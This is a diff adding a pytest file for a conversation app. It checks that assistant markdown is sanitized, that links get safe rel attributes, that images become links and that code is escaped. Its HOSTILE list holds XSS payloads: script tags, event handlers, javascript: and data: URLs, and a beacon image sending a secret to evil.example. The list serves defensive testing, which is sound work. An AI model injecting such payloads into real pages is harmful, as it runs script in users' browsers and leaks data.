@@ -1,0 +1,76 @@
+"""Assistant markdown is rendered, highlighted and sanitized; nothing a model writes can run."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from conversations.markdown import ALLOWED_TAGS, render_markdown
+
+
+class Elements(HTMLParser):
+    """The real elements and attributes of an HTML fragment (text that only looks like tags is not one)."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.found = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+HOSTILE = [
+    "<script>window.pwned = 1</script>",
+    '<img src="x" onerror="window.pwned=1">',
+    "[click](javascript:window.pwned=1)",
+    '<a href="javascript:alert(1)">x</a>',
+    "<svg onload=alert(1)><circle r=1 /></svg>",
+    '<iframe src="https://evil.example/"></iframe>',
+    "![beacon](https://evil.example/track.png?c=secret)",
+    '<div style="background:url(https://evil.example/x)">x</div>',
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "```html\n<script>alert(1)</script>\n```",
+    '<p onclick="alert(1)">hi</p>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+]
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_hostile_markdown_renders_nothing_that_runs_or_loads(payload):
+    for tag, attrs in Elements(render_markdown(payload)).found:
+        assert tag in ALLOWED_TAGS
+        assert not [name for name in attrs if name.startswith("on") or name in ("style", "src")]
+        if "href" in attrs:
+            assert attrs["href"].startswith(("http://", "https://", "mailto:"))
+
+
+def test_links_get_noopener_noreferrer_nofollow():
+    html = render_markdown("[docs](https://example.com/a)")
+    assert '<a href="https://example.com/a" rel="noopener noreferrer nofollow">docs</a>' in html
+
+
+def test_images_become_links_so_nothing_loads_by_itself():
+    html = render_markdown("![a cat](https://img.example/cat.png)")
+    assert "<img" not in html
+    assert '<a href="https://img.example/cat.png" rel="noopener noreferrer nofollow">[image: a cat]</a>' in html
+
+
+def test_fenced_code_is_highlighted_and_escaped():
+    html = render_markdown("```python\nif a < b:\n    print('<b>')\n```")
+    assert 'class="code-block" data-language="python"' in html
+    assert '<span class="k">if</span>' in html
+    assert "&lt;b&gt;" in html and "<b>" not in html
+
+
+def test_common_markdown_renders():
+    html = render_markdown("# Title\n\n**bold** _it_ ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
+    for fragment in ["<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<s>gone</s>", "<li>one</li>",
+                     "<td>1</td>"]:
+        assert fragment in html
+
+
+def test_the_page_renders_finished_replies_as_markdown_and_user_text_as_text(owner_client, conversation):
+    conversation.add_user_message("**not bold** <b>raw</b>")
+    conversation.messages.create(role="assistant", content="**bold** <script>x()</script>", status="complete")
+    page = owner_client.get(conversation.get_absolute_url()).content.decode()
+    assert "**not bold** &lt;b&gt;raw&lt;/b&gt;" in page
+    assert "<strong>bold</strong>" in page and "<script>x()" not in page
